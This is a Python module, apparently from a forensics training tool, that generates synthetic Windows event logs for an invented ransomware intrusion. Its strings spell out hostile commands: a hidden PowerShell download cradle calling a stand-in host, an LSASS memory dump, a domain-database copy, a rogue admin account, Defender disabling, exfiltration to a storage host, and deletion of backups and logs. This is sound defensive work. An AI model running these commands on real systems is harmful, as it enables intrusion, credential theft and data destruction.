"""The intrusion of the example evidence, one story in eight stages: from a document to encrypted servers.

An engineer opens a quotation; a loader fetches a library and stays; by evening the intruder holds the account
of the backup service; at night three shares are copied out and the file servers are encrypted. All of it is
invented; addresses and names come from ranges reserved for documentation.
"""

from __future__ import annotations

import base64
from datetime import datetime, timedelta

from tocsin.example.background import DC1, DC2, ENG, FS1, FS3, JMP, LSASS
from tocsin.example.windows import (
    AS_SYSTEM,
    DEFENDER,
    DOMAIN,
    DOMAIN_SID,
    SECURITY,
    SYSMON,
    SYSTEM,
    TASKS,
    Account,
    Host,
    Process,
    Scene,
    sid_of,
)

AS_VICTIM = Account(f"{DOMAIN}\\m.keller")
BACKUP = "svc_backup"
AS_SERVICE = Account(f"{DOMAIN}\\{BACKUP}", "High")
LOADER_HOST, LOADER_ADDRESS = "cdn-updates.example.net", "203.0.113.47"
STORE_HOST, STORE_ADDRESS = "store-eu.example.com", "198.51.100.88"
RDP_ADDRESS = "198.51.100.23"
DROP = "C:\\ProgramData\\wsqm\\"
NOTE = "HOW_TO_RESTORE_FILES.txt"
LOCKED = ".hldn"

SYSTEM32 = "C:\\Windows\\System32\\"
LOADER_LIBRARY = DROP + "wsqmcons.dll"
START_LOADER = f"rundll32.exe {LOADER_LIBRARY},Start"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYSTEM32 + "cmd.exe"
NET = SYSTEM32 + "net.exe"


def intrude(scene: Scene, start: datetime) -> None:
    """Add the whole intrusion. The document is opened 7 h 12 min after `start`, where the evidence begins."""
    lured = start + timedelta(hours=7, minutes=12)
    loader = _document(scene, lured)
    _stay(scene, lured + timedelta(minutes=3), loader)
    _look_round(scene, lured + timedelta(minutes=24), loader)
    _steal_credentials(scene, lured + timedelta(hours=1, minutes=50), loader)
    _to_file_servers(scene, lured + timedelta(hours=4, minutes=5), loader)
    _to_the_directory(scene, lured + timedelta(hours=5, minutes=35))
    _blind(scene, lured + timedelta(hours=9, minutes=30))
    _carry_off(scene, lured + timedelta(hours=10, minutes=10))
    _encrypt(scene, lured + timedelta(hours=12, minutes=2))


def _after(base: datetime, seconds: float) -> datetime:
    return base + timedelta(seconds=seconds)


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _desktop(scene: Scene) -> Process:
    """The shell of a remote desktop session of the abused account."""
    explorer = "C:\\Windows\\explorer.exe"
    return Process(explorer, explorer, AS_SERVICE, scene.random.randrange(4000, 9000, 4), scene.guid())


def _document(scene: Scene, at: datetime) -> Process:
    """Initial access and execution: a document's macro, a hidden PowerShell, a library in ProgramData."""
    explorer = Process("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", AS_VICTIM, 4312, scene.guid())
    word = scene.process(
        at,
        ENG,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        'WINWORD.EXE /n "C:\\Users\\m.keller\\Downloads\\Angebot_Q4_Ventile.docm"',
        AS_VICTIM,
        explorer,
    )
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('https://{LOADER_HOST}/q4')"
    shell = scene.process(
        _after(at, 21),
        ENG,
        POWERSHELL,
        f"powershell.exe -nop -w hidden -enc {_encoded(fetch)}",
        AS_VICTIM,
        word,
    )
    scene.script_block(_after(at, 22), ENG, fetch)
    scene.resolved(_after(at, 22.4), ENG, shell, LOADER_HOST, LOADER_ADDRESS)
    scene.connected(_after(at, 22.6), ENG, shell, LOADER_ADDRESS, 443, LOADER_HOST)
    return _loader(scene, _after(at, 40), shell)


def _loader(scene: Scene, at: datetime, shell: Process) -> Process:
    """Command and control: the library that the script fetches, and its ten hours of calls home."""
    fetched = scene.process(
        at,
        ENG,
        SYSTEM32 + "certutil.exe",
        f"certutil.exe -urlcache -split -f https://{LOADER_HOST}/wsqmcons.dll {LOADER_LIBRARY}",
        AS_VICTIM,
        shell,
        original="CertUtil.exe",
    )
    scene.file_created(_after(at, 2), ENG, fetched, LOADER_LIBRARY)
    loader = scene.process(
        _after(at, 7),
        ENG,
        SYSTEM32 + "rundll32.exe",
        START_LOADER,
        AS_VICTIM,
        shell,
        original="RUNDLL32.EXE",
    )
    for beat in range(60):
        scene.connected(
            _after(at, 20 + beat * 640 + scene.random.uniform(0, 60)),
            ENG,
            loader,
            LOADER_ADDRESS,
            443,
            LOADER_HOST,
        )
    return loader


def _stay(scene: Scene, at: datetime, loader: Process) -> None:
    """Persistence: a start-up value and a task."""
    scene.registry_set(
        at,
        ENG,
        loader,
        f"HKU\\{sid_of('m.keller')}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WsqmConsole",
        START_LOADER,
    )
    scene.process(
        _after(at, 50),
        ENG,
        SYSTEM32 + "schtasks.exe",
        f'schtasks /create /tn "WsqmConsole" /sc hourly /tr "{START_LOADER}" /f',
        AS_VICTIM,
        loader,
    )
    action = f"<Exec><Command>rundll32.exe</Command><Arguments>{LOADER_LIBRARY},Start</Arguments></Exec>"
    scene.add(_after(at, 51), ENG, SECURITY, 4698, {
        "SubjectUserSid": sid_of("m.keller"), "SubjectUserName": "m.keller", "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x4c1f2", "TaskName": "\\WsqmConsole",
        "TaskContent": f"<Task><Actions>{action}</Actions></Task>",
    })  # fmt: skip
    scene.add(_after(at, 51.2), ENG, TASKS, 106, {"TaskName": "\\WsqmConsole", "UserContext": AS_VICTIM.user})


def _look_round(scene: Scene, at: datetime, loader: Process) -> None:
    """Discovery: who am I, who is in charge, what else is there."""
    questions = (
        ("whoami.exe", "whoami /all"),
        ("ipconfig.exe", "ipconfig /all"),
        ("nltest.exe", "nltest /domain_trusts /all_trusts"),
        ("net.exe", 'net group "Domain Admins" /domain'),
        ("net.exe", 'net group "Backup Operators" /domain'),
        ("quser.exe", "quser"),
    )
    shell = scene.process(at, ENG, CMD, "cmd.exe", AS_VICTIM, loader)
    for number, (program, line) in enumerate(questions):
        scene.process(_after(at, 25 + number * 34), ENG, SYSTEM32 + program, line, AS_VICTIM, shell)
    finder = scene.process(
        _after(at, 420),
        ENG,
        DROP + "af.exe",
        f'{DROP}af.exe -f "(objectcategory=computer)" -csv name',
        AS_VICTIM,
        shell,
    )
    scene.file_created(_after(at, 431), ENG, finder, DROP + "c.csv")


def _steal_credentials(scene: Scene, at: datetime, loader: Process) -> None:
    """Credential access: weak tickets of service accounts, guesses, and the memory that holds credentials."""
    for number, service in enumerate(("svc_backup", "svc_sql", "svc_erp")):
        scene.ticket(_after(at, number * 2), DC1, "m.keller", service, ENG.address, "0x17")
    for number, account in enumerate(("svc_sql", "svc_erp", "adm_bergman", "svc_print", "administrator", "svc_sql")):
        scene.failed_logon(_after(at, 1500 + number * 7), DC2, account, ENG.address, ENG.name)
    scene.opened(_after(at, 2100), ENG, loader, LSASS, "0x1010")
    dump = scene.process(
        _after(at, 2160),
        ENG,
        SYSTEM32 + "rundll32.exe",
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 {DROP}d.bin full",
        Account(AS_VICTIM.user, "High"),
        loader,
        original="RUNDLL32.EXE",
    )
    scene.opened(_after(at, 2161), ENG, dump, LSASS, "0x1fffff")
    scene.file_created(_after(at, 2163), ENG, dump, DROP + "d.bin")


def _to_file_servers(scene: Scene, at: datetime, loader: Process) -> None:
    """Lateral movement with the account of the backup service: remote services and WMI."""
    scene.logon(at, FS3, BACKUP, 3, ENG.address, ENG.name, "NTLM")
    scene.connected(_after(at, -1), ENG, loader, FS3.address, 445, FS3.fqdn)
    scene.service_installed(_after(at, 2), FS3, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    runner = scene.process(_after(at, 2.4), FS3, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", AS_SYSTEM)
    scene.sysmon(_after(at, 2.6), FS3, 17, runner, EventType="CreatePipe", PipeName="\\PSEXESVC")
    shell = scene.process(_after(at, 3), FS3, CMD, '"cmd"', AS_SYSTEM, runner)
    scene.process(_after(at, 30), FS3, SYSTEM32 + "net.exe", "net share", AS_SYSTEM, shell)
    scene.service_installed(_after(at, 900), FS3, "wsqmhlp", f"cmd.exe /c {START_LOADER}")
    scene.process(
        _after(at, 901),
        FS3,
        SYSTEM32 + "rundll32.exe",
        START_LOADER,
        AS_SYSTEM,
        original="RUNDLL32.EXE",
    )

    scene.logon(_after(at, 1500), FS1, BACKUP, 3, ENG.address, ENG.name, "NTLM")
    broker = Process(
        SYSTEM32 + "wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
        Account("NT AUTHORITY\\NETWORK SERVICE", "System"),
        3340,
        scene.guid(),
    )
    scene.process(
        _after(at, 1502),
        FS1,
        CMD,
        "cmd.exe /Q /c dir D:\\Shares /b 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1",
        AS_SERVICE,
        broker,
    )


def _to_the_directory(scene: Scene, at: datetime) -> None:
    """Lateral movement and persistence: remote desktop to a domain controller, a new administrator."""
    scene.logon(at, JMP, BACKUP, 10, RDP_ADDRESS, "DESKTOP-7QK2")
    scene.logon(_after(at, 320), DC1, BACKUP, 10, JMP.address, JMP.name)
    admin = scene.process(_after(at, 400), DC1, CMD, "cmd.exe", AS_SERVICE, _desktop(scene))
    who = {
        "SubjectUserSid": sid_of(BACKUP),
        "SubjectUserName": BACKUP,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": "0x9d3c07",
    }
    scene.process(_after(at, 430), DC1, NET, "net user svc_hlthmon Wq!7f2Lm /add /domain", AS_SERVICE, admin)
    scene.add(_after(at, 431), DC1, SECURITY, 4720, who | {
        "TargetUserName": "svc_hlthmon", "TargetDomainName": DOMAIN, "TargetSid": sid_of("svc_hlthmon"),
        "PrivilegeList": "-", "SamAccountName": "svc_hlthmon", "DisplayName": "-",
    })  # fmt: skip
    scene.add(_after(at, 450), DC1, SECURITY, 4728, who | {
        "MemberName": "CN=svc_hlthmon,CN=Users,DC=corp,DC=halden,DC=example",
        "MemberSid": sid_of("svc_hlthmon"), "TargetUserName": "Domain Admins", "TargetDomainName": DOMAIN,
        "TargetSid": f"{DOMAIN_SID}-512", "PrivilegeList": "-",
    })  # fmt: skip
    question = 'net group "Enterprise Admins" /domain'
    scene.process(_after(at, 600), DC2, NET, question, AS_SERVICE, _desktop(scene))
    copy = f'ntdsutil "ac i ntds" "ifm" "create full {DROP}i" q q'
    scene.process(_after(at, 900), DC1, SYSTEM32 + "ntdsutil.exe", copy, AS_SERVICE, admin)


def _blind(scene: Scene, at: datetime) -> None:
    """Defense evasion: protection off on both file servers."""
    switch = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true"
    for number, host in enumerate((FS1, FS3)):
        start = _after(at, number * 95)
        shell = scene.process(start, host, CMD, "cmd.exe", AS_SERVICE, _desktop(scene))
        scene.process(
            _after(start, 20),
            host,
            POWERSHELL,
            f"powershell.exe {switch}",
            AS_SERVICE,
            shell,
        )
        scene.script_block(
            _after(start, 21),
            host,
            switch,
        )
        scene.add(_after(start, 23), host, DEFENDER, 5001, {
            "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11",
        })  # fmt: skip


def _carry_off(scene: Scene, at: datetime) -> None:
    """Collection and exfiltration: the quality share in archives, to a storage service."""
    shell = scene.process(at, FS1, CMD, "cmd.exe", AS_SERVICE, _desktop(scene))
    for number, share in enumerate(("Quality", "HR", "Recipes")):
        archive = f"{DROP}q{number}.7z"
        packer = scene.process(
            _after(at, 60 + number * 700),
            FS1,
            f"{DROP}7za.exe",
            f"{DROP}7za.exe a -mx1 -pT!ck3t0ff {archive} D:\\Shares\\{share}",
            AS_SERVICE,
            shell,
            original="7za.exe",
        )
        scene.file_created(_after(at, 64 + number * 700), FS1, packer, archive)
    sender = scene.process(
        _after(at, 2600),
        FS1,
        f"{DROP}wsync.exe",
        f"{DROP}wsync.exe copy {DROP} remote:hf --include *.7z --transfers 12 --no-check-certificate",
        AS_SERVICE,
        shell,
        original="rclone.exe",
    )
    scene.resolved(_after(at, 2601), FS1, sender, STORE_HOST, STORE_ADDRESS)
    for number in range(24):
        scene.connected(_after(at, 2602 + number * 110), FS1, sender, STORE_ADDRESS, 443, STORE_HOST)


def _encrypt(scene: Scene, at: datetime) -> None:
    """Impact: ways back removed, services stopped, files locked, notes left, logs cleared."""
    for number, (host, share, files) in enumerate(((FS3, "Engineering", 80), (FS1, "Quality", 60))):
        _one_server(scene, _after(at, number * 210), host, share, files)


def _one_server(scene: Scene, at: datetime, host: Host, share: str, files: int) -> None:
    shell = scene.process(at, host, CMD, "cmd.exe /c C:\\ProgramData\\wsqm\\go.bat", AS_SYSTEM)
    lines = (
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
        ("net.exe", "net stop MSSQLSERVER /y"),
        ("taskkill.exe", "taskkill /f /im veeamagent.exe"),
    )
    for number, (program, line) in enumerate(lines):
        scene.process(_after(at, 2 + number * 3), host, SYSTEM32 + program, line, AS_SYSTEM, shell)
    locker = scene.process(
        _after(at, 30), host, f"{DROP}hl.exe", f"{DROP}hl.exe -p D:\\Shares -m fast", AS_SYSTEM, shell
    )
    for number in range(files):
        ending = scene.random.choice(("dwg", "xlsx", "pdf", "docx"))
        folder = f"D:\\Shares\\{share}\\{number // 10:02d}\\"
        if number % 10 == 0:
            scene.file_created(_after(at, 33 + number * 0.8), host, locker, folder + NOTE)
        subject = scene.random.choice(("Linie", "Ventil", "Audit", "Charge"))
        name = f"{subject}_{scene.random.randrange(2000)}.{ending}"
        scene.file_created(_after(at, 33.2 + number * 0.8), host, locker, folder + name + LOCKED)
    scene.add(_after(at, 120), host, SYSMON, 5, {
        "RuleName": "-", "ProcessGuid": locker.guid, "ProcessId": str(locker.pid), "Image": locker.image,
        "User": locker.account.user,
    })  # fmt: skip
    scene.log_cleared(_after(at, 130), host, SECURITY, BACKUP)
    scene.log_cleared(_after(at, 131), host, SYSTEM, BACKUP)
